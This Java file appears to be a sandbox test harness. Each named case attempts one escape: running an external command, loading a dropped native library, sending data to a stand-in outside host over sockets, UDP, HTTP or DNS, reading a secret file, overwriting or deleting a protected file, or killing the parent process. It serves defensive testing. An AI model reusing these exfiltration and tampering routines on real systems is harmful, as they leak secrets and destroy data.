import java.io.File;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.FileChannel;
import java.nio.channels.SocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.StandardOpenOption;
import java.time.Duration;

/** Attempts in Java: `Attack NAME`. What each tries to reach comes in variables; whoever runs it looks whether it was reached. */
public final class Attack {
    private static final String EVIL = System.getenv("EVIL"), STRANGER = System.getenv("STRANGER"), LOOT = System.getenv("LOOT");
    private static final Path SCRATCH = path("SCRATCH"), SECRET = path("SECRET"), PROTECTED = path("PROTECTED").resolve("file");

    private static Path path(String variable) {
        return Path.of(System.getenv().getOrDefault(variable, "/nowhere"));
    }

    private static void show(Process process) throws IOException, InterruptedException {
        System.out.write(process.getInputStream().readAllBytes());
        process.waitFor();
    }

    private static void run(String name) throws Exception {
        switch (name) {
            case "process_builder" -> show(new ProcessBuilder(EVIL).start());
            case "runtime_exec" -> show(Runtime.getRuntime().exec(new String[] {EVIL}));
            case "shell" -> show(new ProcessBuilder("/bin/sh", "-c", EVIL).start());
            case "vfork" -> {
                System.setProperty("jdk.lang.Process.launchMechanism", "VFORK");
                show(new ProcessBuilder(EVIL).start());
            }
            case "pipeline" -> {
                for (var process : ProcessBuilder.startPipeline(java.util.List.of(new ProcessBuilder(EVIL)))) show(process);
            }
            case "load_library" -> {
                var dropped = SCRATCH.resolve("dropped.so");
                Files.copy(path("LIBRARY"), dropped, StandardCopyOption.REPLACE_EXISTING);
                System.load(dropped.toString());
            }
            case "socket" -> {
                try (var socket = new Socket()) {
                    socket.connect(new InetSocketAddress(STRANGER, 443), 1500);
                    socket.getOutputStream().write(LOOT.getBytes());
                }
            }
            case "channel" -> {
                try (var channel = SocketChannel.open(new InetSocketAddress(STRANGER, 443))) {
                    channel.write(ByteBuffer.wrap(LOOT.getBytes()));
                }
            }
            case "channel_nonblocking" -> {
                var channel = SocketChannel.open();
                channel.configureBlocking(false);
                channel.connect(new InetSocketAddress(STRANGER, 443));
                for (int tries = 0; tries < 20 && !channel.finishConnect(); tries++) Thread.sleep(10);
                channel.write(ByteBuffer.wrap(LOOT.getBytes()));
            }
            case "datagram" -> {
                var bytes = LOOT.getBytes();
                new DatagramSocket().send(new DatagramPacket(bytes, bytes.length, InetAddress.getByName(STRANGER), 443));
            }
            case "datagram_channel" -> DatagramChannel.open()
                    .send(ByteBuffer.wrap(LOOT.getBytes()), new InetSocketAddress(STRANGER, 443));
            case "http" -> HttpClient.newHttpClient().send(
                    HttpRequest.newBuilder(URI.create("http://" + STRANGER + "/" + LOOT)).timeout(Duration.ofSeconds(1)).build(),
                    HttpResponse.BodyHandlers.discarding());
            case "lookup" -> InetAddress.getByName(LOOT + ".stranger.test");
            case "listen" -> {
                new ServerSocket(4448);
                System.out.println("REACHED");
            }
            case "read" -> System.out.println(Files.readString(SECRET));
            case "read_channel" -> {
                var buffer = ByteBuffer.allocate(100);
                FileChannel.open(SECRET, StandardOpenOption.READ).read(buffer);
                System.out.write(buffer.array());
            }
            case "read_link" -> System.out.println(
                    Files.readString(Files.createSymbolicLink(SCRATCH.resolve("link"), SECRET)));
            case "write" -> Files.writeString(PROTECTED, "OVERWRITTEN");
            case "write_move" -> Files.move(
                    Files.writeString(SCRATCH.resolve("new"), "OVERWRITTEN"), PROTECTED, StandardCopyOption.REPLACE_EXISTING);
            case "write_delete" -> Files.delete(PROTECTED);
            case "write_file" -> new File(PROTECTED.resolveSibling("new").toString()).createNewFile();
            case "kill_init" -> {
                ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
                show(new ProcessBuilder(EVIL).start());
            }
            default -> throw new IllegalArgumentException(name);
        }
    }

    public static void main(String[] arguments) throws Exception {
        try {
            run(arguments[0]);
        } catch (IOException | UnsatisfiedLinkError error) {
            System.out.println("REFUSED " + error.getClass().getSimpleName());
        }
    }
}
